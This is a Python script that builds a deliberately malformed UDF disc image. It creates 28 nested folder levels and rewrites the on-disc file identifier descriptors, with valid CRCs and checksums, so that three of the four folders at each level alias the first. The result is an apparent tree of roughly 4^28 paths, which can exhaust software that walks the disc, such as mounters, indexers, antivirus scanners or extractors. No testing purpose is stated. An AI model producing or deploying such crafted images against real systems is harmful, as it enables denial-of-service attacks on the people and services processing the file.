"""udf_ladder.py FOLDER ISO: a UDF disc on which four folders of each level are the same one.

FOLDER is made for it.  Source: ECMA-167, 4/14.4 (file identifier), 3/7.2 (its tag).
"""
import os
import struct
import subprocess
import sys

LEVELS = 28


def crc(octets):
    value = 0
    for octet in octets:
        value ^= octet << 8
        for _ in range(8):
            value = (value << 1 ^ 0x1021) & 0xFFFF if value & 0x8000 else value << 1
    return value


def is_folder(disc, at):
    return (
        disc[at : at + 2] == b"\1\1"
        and (sum(disc[at : at + 16]) - disc[at + 4]) & 0xFF == disc[at + 4]
        and disc[at + 18] & 10 == 2
    )


path = sys.argv[1]
for _ in range(LEVELS):
    for name in "abcd":
        os.makedirs(os.path.join(path, name))
    path = os.path.join(path, "a")
subprocess.run(
    ["genisoimage", "-quiet", "-D", "-udf", "-o", sys.argv[2], sys.argv[1]],
    check=True,
    stderr=subprocess.DEVNULL,
)
disc = bytearray(open(sys.argv[2], "rb").read())
for at in range(256 * 2048, len(disc) - 40, 4):
    if not is_folder(disc, at):
        continue
    begin = at + 38 + struct.unpack_from("<H", disc, at + 36)[0]
    if disc[begin : begin + disc[at + 19]].endswith(b"a"):
        first = disc[at + 20 : at + 36]
        continue
    disc[at + 20 : at + 36] = first
    length = struct.unpack_from("<H", disc, at + 10)[0]
    struct.pack_into("<H", disc, at + 8, crc(disc[at + 16 : at + 16 + length]))
    disc[at + 4] = (sum(disc[at : at + 16]) - disc[at + 4]) & 0xFF
open(sys.argv[2], "wb").write(disc)
